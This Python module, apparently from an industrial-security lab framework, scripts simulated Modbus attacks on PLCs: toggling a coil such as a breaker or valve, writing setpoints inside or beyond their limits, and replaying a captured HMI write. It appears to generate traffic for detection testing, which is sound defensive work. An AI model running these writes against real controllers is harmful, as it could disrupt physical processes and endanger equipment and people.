"""Unauthorized writes: a coil, a setpoint outside its limits, a setpoint inside them, and
the replay of a captured legitimate write."""

from __future__ import annotations

from sentinel.lab import ops
from sentinel.lab.ops import Script
from sentinel.lab.scenarios import ScenarioContext
from sentinel.lab.scenarios._common import coil_tags, limited_tags, pick_plc, unit_of


def coil(ctx: ScenarioContext) -> Script:
    """Reads the coils, then flips one writable coil (a breaker, a fan, a valve)."""
    target = pick_plc(ctx, needs="coils")
    rng = ctx.rng
    unit = unit_of(ctx, target)
    tags = coil_tags(ctx, target)
    tag = rng.choice(tags)
    address = rng.randint(tag.start, tag.end)
    conn = yield ops.Connect(target)
    if conn is None:
        return
    answer = yield ops.Request(conn, unit, ops.read(1, address, 1), 1.0)
    current = bool(answer and len(answer) > 2 and not answer[0] & 0x80 and answer[2] & 1)
    yield ops.Sleep(rng.uniform(0.2, 2.0))
    yield ops.Request(conn, unit, ops.write_coil(address, not current), 1.0)
    ctx.notes["write"] = {"tag": tag.name, "address": address, "value": not current}
    yield ops.Sleep(rng.uniform(0.1, 0.5))
    yield ops.Close(conn)


def _setpoint(ctx: ScenarioContext, inside: bool) -> Script:
    target = pick_plc(ctx, needs="setpoints")
    rng = ctx.rng
    unit = unit_of(ctx, target)
    tag = rng.choice(limited_tags(ctx, target))
    assert tag.min is not None and tag.max is not None
    if inside:
        value = rng.randint(tag.min, tag.max)
    else:
        span = max(tag.max - tag.min, 10)
        high = tag.max + rng.randint(1, span)
        low = tag.min - rng.randint(1, span)
        value = high if low < 0 or rng.random() < 0.6 else low
    conn = yield ops.Connect(target)
    if conn is None:
        return
    yield ops.Request(conn, unit, ops.read(3, tag.start, 1), 1.0)
    yield ops.Sleep(rng.uniform(0.2, 1.5))
    yield ops.Request(conn, unit, ops.write_register(tag.start, value), 1.0)
    ctx.notes["write"] = {"tag": tag.name, "address": tag.start, "value": value}
    yield ops.Sleep(rng.uniform(0.1, 0.5))
    yield ops.Close(conn)


def setpoint_out_of_range(ctx: ScenarioContext) -> Script:
    yield from _setpoint(ctx, inside=False)


def setpoint_in_range(ctx: ScenarioContext) -> Script:
    yield from _setpoint(ctx, inside=True)


def replay(ctx: ScenarioContext) -> Script:
    """Replays, byte for byte, a setpoint write the HMI sent earlier (its transaction id
    included), from the attacker's own connection, one or more times."""
    site = ctx.site
    rng = ctx.rng
    targets = site.lab.hmi.setpoints
    if ctx.params.get("target"):
        targets = [t for t in targets if t.plc == ctx.params["target"]] or targets
    if not targets:
        return
    chosen = rng.choice(targets)
    ctx.target = chosen.plc
    tag = site.tags(chosen.plc)[chosen.tag]
    assert tag.min is not None and tag.max is not None
    captured = ops.adu(
        rng.randint(1, 60000),
        unit_of(ctx, chosen.plc),
        ops.write_register(tag.start, rng.randint(tag.min, tag.max)),
    )
    conn = yield ops.Connect(chosen.plc)
    if conn is None:
        return
    for _ in range(int(ctx.params.get("repeat", 1))):
        yield ops.Send(conn, captured)
        yield ops.Sleep(rng.uniform(0.5, 2.0))
    ctx.notes["replayed"] = captured.hex()
    yield ops.Close(conn)
